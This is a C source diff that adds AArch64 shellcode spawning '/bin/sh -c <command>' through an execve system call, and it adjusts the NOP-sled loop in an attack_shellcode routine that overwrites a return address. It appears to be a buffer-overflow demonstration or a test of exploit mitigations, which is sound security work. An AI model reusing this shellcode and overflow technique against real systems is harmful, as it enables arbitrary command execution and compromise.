@@ -62,6 +62,26 @@ __asm__(".pushsection .rodata\n"
 	".popsection\n");
 #define NOP "\x90"
 extern const char shellcode_start[], shellcode_end[];
+#elif defined(__aarch64__)
+#define HAVE_SHELLCODE 1
+__asm__(".pushsection .rodata\n"
+	"	.balign 4\n"
+	"shellcode_start:\n"
+	"	adr x0, 1f\n"
+	"	adr x1, 2f\n"
+	"	adr x2, shellcode_end\n"
+	"	stp x2, xzr, [sp, #-16]!\n"
+	"	stp x0, x1, [sp, #-16]!\n"
+	"	mov x1, sp\n"
+	"	mov x2, xzr\n"
+	"	mov x8, #221\n"
+	"	svc #0\n"
+	"1:	.asciz \"/bin/sh\"\n"
+	"2:	.asciz \"-c\"\n"
+	"shellcode_end:\n"
+	".popsection\n");
+#define NOP "\x1f\x20\x03\xd5"
+extern const char shellcode_start[], shellcode_end[];
 #else
 #define HAVE_SHELLCODE 0
 #endif
@@ -267,7 +287,8 @@ static void attack_shellcode(const struct stack *stack, const char *command)
 
 	/* What lies between buffer and return address is put back as it was. */
 	memcpy(at, &stack->word[stack->buffer], end);
-	memset(at, NOP[0], SLED);
+	for (size_t i = 0; i < SLED; i += sizeof(NOP) - 1)
+		memcpy(at + i, NOP, sizeof(NOP) - 1);
 	memcpy(at + SLED, shellcode_start, code);
 	memcpy(at + SLED + code, command, strlen(command) + 1);
 	memcpy(at + end - 8, &target, 8);
